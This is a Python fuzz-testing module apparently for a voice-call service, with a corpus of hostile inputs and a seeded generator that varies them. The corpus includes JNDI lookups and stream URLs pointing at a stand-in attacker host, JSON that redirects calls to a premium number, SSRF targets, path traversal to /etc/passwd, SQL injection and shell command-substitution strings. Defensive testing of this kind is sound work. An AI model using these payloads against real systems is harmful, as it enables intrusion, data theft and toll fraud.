"""Values that a hostile caller, application or lookup server might send: a corpus, and random variations of it."""

from __future__ import annotations

import random
from typing import Any, Final

PREMIUM: Final = "19005550123"
EVIL: Final = "evil.example.com"
CORPUS: Final = (
    "",
    " ",
    "\0",
    "\r\n",
    "\r\nX-Evil: 1\r\n\r\n",
    "%0d%0aX-Evil:%201",
    "\u2028\u2029\u0085",
    "\u202e\u200b\ufeff",
    "\ud800",
    "e\u0301\u0301\u0301",
    "\U0001f600" * 50,
    "A" * 20_000,
    "<speak>",
    "</speak>",
    "</speak><speak>",
    "<break time='60s'/>",
    "<audio src='https://evil.example.com/a.mp3'/>",
    "<!--",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "&lt;speak&gt;&amp;#60;",
    "&#60;break/&#62;",
    "\uff1cspeak\uff1e",
    "{{ 7 * 7 }}",
    "{% for i in range(10000000) %}x{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ env.PIN }}",
    "${jndi:ldap://evil.example.com/a}",
    "#{7*7}",
    "%s%n%p",
    '"',
    "'",
    "\\",
    '"}]},{"action":"connect","endpoint":[{"type":"phone","number":"19005550123"}]}',
    '"},{"action":"talk","text":"injected"},{"a":"',
    '", "eventUrl": ["https://evil.example.com"], "x": "',
    '[{"action":"stream","streamUrl":["https://evil.example.com/a.mp3"]}]',
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "/",
    "//evil.example.com/",
    "@evil.example.com",
    ":80@evil.example.com/",
    "?x=1#y",
    "#",
    "https://evil.example.com/a",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/",
    "http://2130706433/",
    "wss://evil.example.com/socket",
    "sip:19005550123@evil.example.com",
    "sip:+19005550123@pbx.example.com;transport=udp",
    "tel:+19005550123",
    "19005550123",
    "+19005550123",
    "0019005550123",
    "+1 900 555-0123",
    "44\u0667\u0667\u0660\u0660",
    "447700900123;ext=19005550123",
    "447700900123,19005550123",
    "112",
    "999",
    "anonymous",
    "' OR 1=1 --",
    "'; DROP TABLE calls; --",
    "$(reboot)",
    "`reboot`",
    "| cat /etc/passwd",
    "__proto__",
    "constructor",
    "true",
    "null",
    "NaN",
    "-1",
    "1e999",
    "9" * 400,
    "0x7f000001",
    "1",
    "2",
    "*",
    "#",
    "0" * 64,
)
"""Each of these has harmed some server: injected lines, tags, templates, JSON, paths, hosts, numbers and commands."""


class Nasty:
    """Makes values; a seed always gives the same ones.

    Attributes:
        made: how many values have been made.
    """

    def __init__(self, seed: int) -> None:
        self.dice: Final = random.Random(seed)  # noqa: S311 - to be repeated
        self.made = 0

    def text(self) -> str:
        """A hostile text: one of the corpus, two of them joined, one inside an ordinary text, or random characters."""
        self.made += 1
        dice = self.dice
        match dice.randrange(8):
            case 0:
                return dice.choice(CORPUS) + dice.choice(CORPUS)
            case 1:
                return f"Ann {dice.choice(CORPUS)} Smith"
            case 2:
                return "".join(chr(dice.choice((dice.randrange(128), dice.randrange(0xD7FF)))) for _ in range(12))
            case 3:
                return "447700900" + dice.choice(CORPUS)
            case _:
                return dice.choice(CORPUS)

    def value(self, depth: int = 0) -> Any:
        """A hostile value of any JSON type."""
        match self.dice.randrange(12):
            case 0:
                self.made += 1
                return self.dice.choice([None, True, False, 0, -1, 10**17, 0.1, 1e300])
            case 1 if depth < 3:
                return [self.value(depth + 1) for _ in range(self.dice.randrange(4))]
            case 2 if depth < 3:
                return {self.text(): self.value(depth + 1) for _ in range(self.dice.randrange(4))}
            case _:
                return self.text()

    def typed(self, declared: Any) -> Any:
        """A value that a lookup could return for a declared type, sometimes of another type."""
        if self.dice.random() < 0.05:
            return self.value()
        if isinstance(declared, dict):
            if "sensitive" in declared:
                return self.typed(declared["type"])
            return {name: self.typed(inner) for name, inner in declared.items()}
        if isinstance(declared, list):
            is_type = len(declared) == 1 and (isinstance(declared[0], dict) or declared[0] in _TYPES)
            some = range(self.dice.randrange(4))
            return [self.typed(declared[0]) for _ in some] if is_type else self.dice.choice(declared)
        known = _OF_TYPE.get(declared)
        return self.text() if known is None or self.dice.random() < 0.2 else self.dice.choice(known)


_OF_TYPE: Final[dict[str, tuple[Any, ...]]] = {
    "int": (0, 1, 2, 7, -1, 10**12),
    "number": (0, 0.5, -1, 1e9),
    "bool": (True, False),
    "phone": ("447700900456", "+447700900456", PREMIUM, "449098790879"),
    "phone?": ("", "447700900456", PREMIUM),
    "date?": ("", "2026-03-04", "0001-01-01", "2026-02-30"),
    "time?": ("", "00:00", "23:59", "24:00"),
    "datetime?": ("", "2026-03-04T12:00:00Z", "9999-12-31T23:59:59-14:00"),
    "map": ({}, {"a": {"b": "</speak>"}}),
    "url?": ("", f"https://{EVIL}/a.mp3"),
    "url": (f"https://{EVIL}/a.mp3", "https://evil.example.com@crm.example.com/"),
}
_TYPES: Final = frozenset({"text", "int", "number", "bool", "phone", "phone?", "url", "url?"})
